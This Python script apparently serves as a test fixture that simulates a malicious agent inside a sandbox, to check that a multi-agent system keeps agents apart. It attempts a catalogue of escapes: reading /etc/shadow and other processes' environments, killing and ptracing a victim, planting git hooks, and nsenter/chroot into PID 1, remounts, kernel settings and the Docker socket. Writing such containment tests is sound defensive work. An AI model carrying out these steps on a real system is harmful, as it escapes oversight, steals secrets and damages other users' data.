"""An agent that means harm: `python attacks.py PLAN`, run inside a sandbox.

PLAN is JSON: what there is to attack. Each attack that succeeds prints `got NAME`; what an attack
has changed, the test sees outside. Only the standard library, also of older Pythons.
"""

# It uses what an attacker would, and is read by older Pythons.
# ruff: noqa: PTH102, PTH104, PTH108, PTH109, PTH115, PTH118, PTH120, PTH123, PTH207, PTH208

from __future__ import annotations

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import subprocess
import sys

CANARY = b"canary-of-the-victim"


def got(name: str) -> None:
    print("got", name, flush=True)


def write_at(path: str) -> None:
    with contextlib.suppress(OSError), open(path, "a") as stream:
        stream.write("changed\n")
        got("write " + path)


def write_to_neighbour(plan: dict[str, str]) -> None:
    """By absolute path, by `..`, by links of both kinds, and by the roots of processes."""
    target = plan["neighbour_file"]
    write_at(target)
    write_at(os.path.relpath(target))
    for name, link in (("soft", os.symlink), ("hard", os.link)):
        with contextlib.suppress(OSError):
            link(target, name)
            write_at(name)
    for pid in ("self", "1", "2", plan["victim"]):
        write_at(f"/proc/{pid}/root{target}")
        write_at(f"/proc/{pid}/cwd/{os.path.relpath(target, plan['root'])}")
    folder = os.path.dirname(target)
    for change in (
        lambda: os.rename(target, target + ".moved"),
        lambda: os.unlink(target),
        lambda: os.rename(folder, folder + ".moved"),
        lambda: os.mkdir(os.path.join(folder, "new")),
        lambda: os.truncate(target, 0),
    ):
        with contextlib.suppress(OSError):
            change()
            got("change in neighbour")


def read_secrets(plan: dict[str, str]) -> None:
    """Files of MAS, of the system, and the environment and memory of other processes."""
    for path in (plan["secret"], plan["private"], "/etc/shadow", "/etc/gshadow"):
        with contextlib.suppress(OSError), open(path, "rb") as stream:
            stream.read(1)
            got("read " + path)
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError), open(path, "rb") as stream:
            if CANARY in stream.read():
                got("environment of the victim")
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            leads = os.readlink(f"/proc/self/fd/{number}")
            if int(number) > 2 and not leads.startswith("/proc/"):
                got(f"descriptor {number} {leads}")
    for device in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/proc/kcore"):
        with contextlib.suppress(OSError), open(device, "rb") as stream:
            stream.read(1)
            got("device " + device)


def harm_processes(plan: dict[str, str]) -> None:
    """Signals and tracing of a process of MAS, whose number is known."""
    victim = int(plan["victim"])
    with contextlib.suppress(OSError):
        os.kill(victim, signal.SIGKILL)
        got("kill")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, victim, None, None) == 0:
        got("trace")
    with contextlib.suppress(OSError), open(f"/proc/{victim}/mem", "r+b"):
        got("memory")


def change_git(plan: dict[str, str]) -> None:
    """References, configuration and hooks of other repositories."""
    run, neighbour = plan["run_repository"], plan["neighbour"]
    commit = subprocess.run(
        "git init -q own && cd own && git -c user.name=a -c user.email=a@b "
        "commit -q --allow-empty -m own && git rev-parse HEAD",
        shell=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    if not commit:
        print("own commit failed")
    for git in (["--git-dir", run], ["-C", neighbour], ["--git-dir", neighbour + "/.git"]):
        for words in (
            ["update-ref", "refs/heads/agent-2", commit],
            ["config", "core.hooksPath", os.getcwd()],
            ["push", run, "+HEAD:refs/heads/agent-2"],
        ):
            done = subprocess.run(["git", *git, *words], capture_output=True)
            if done.returncode == 0:
                got(" ".join(["git", *git, *words]))
    write_at(run + "/config")
    write_at(run + "/hooks/post-receive")
    write_at(plan["objects"] + "/planted")


def change_the_machine(plan: dict[str, str]) -> None:
    """Mounts, namespaces, devices and settings of the kernel."""
    write = "echo changed >> " + plan["neighbour_file"]
    tricks = {
        "mount": "mount -t tmpfs none /usr && touch /usr/x",
        "remount": "mount -o remount,rw / && touch /planted",
        "bind": "mount --bind " + plan["neighbour"] + " .",
        "namespaces": "unshare -Urm sh -c 'umount -l /proc; " + write + "'",
        "shown again": "unshare -Urmpf sh -c 'mount -t proc none /proc && " + write + "'",
        "enter": "nsenter -t 1 -a sh -c '" + write + "'",
        "chroot": "chroot /proc/1/root sh -c '" + write + "'",
        "node": "mknod disk b 254 0 && head -c 1 disk",
        "hostname": "hostname planted && test $(cat /proc/sys/kernel/hostname) != sandbox",
        "system": "touch /usr/bin/planted",
        "mode": "chmod 4755 " + plan["neighbour_file"],
    }
    for name, script in tricks.items():
        done = subprocess.run(["sh", "-c", script], capture_output=True)
        if done.returncode == 0:
            got(name)
    for setting in ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches"):
        # To open is enough: written, it would change this machine for all.
        with contextlib.suppress(OSError):
            os.close(os.open("/proc/sys/" + setting, os.O_WRONLY))
            got("setting " + setting)
    with contextlib.suppress(OSError):
        os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
        got("sysrq")


def reach_sockets(plan: dict[str, str]) -> None:
    """Sockets of the machine: by path, and by a name without a file."""
    for name in ("/var/run/docker.sock", "/run/docker.sock", plan["socket"]):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.connect(name)
            got("socket " + name)


def reach_names(plan: dict[str, str]) -> None:
    """A socket that has a name without a file."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + plan["name"])
        got("socket without a file")


ATTACKS = {
    one.__name__: one
    for one in (
        write_to_neighbour,
        read_secrets,
        harm_processes,
        change_git,
        change_the_machine,
        reach_sockets,
        reach_names,
    )
}


if __name__ == "__main__":
    wanted = json.loads(sys.argv[1])
    for name in wanted["attacks"]:
        ATTACKS[name](wanted)
    print("done", flush=True)
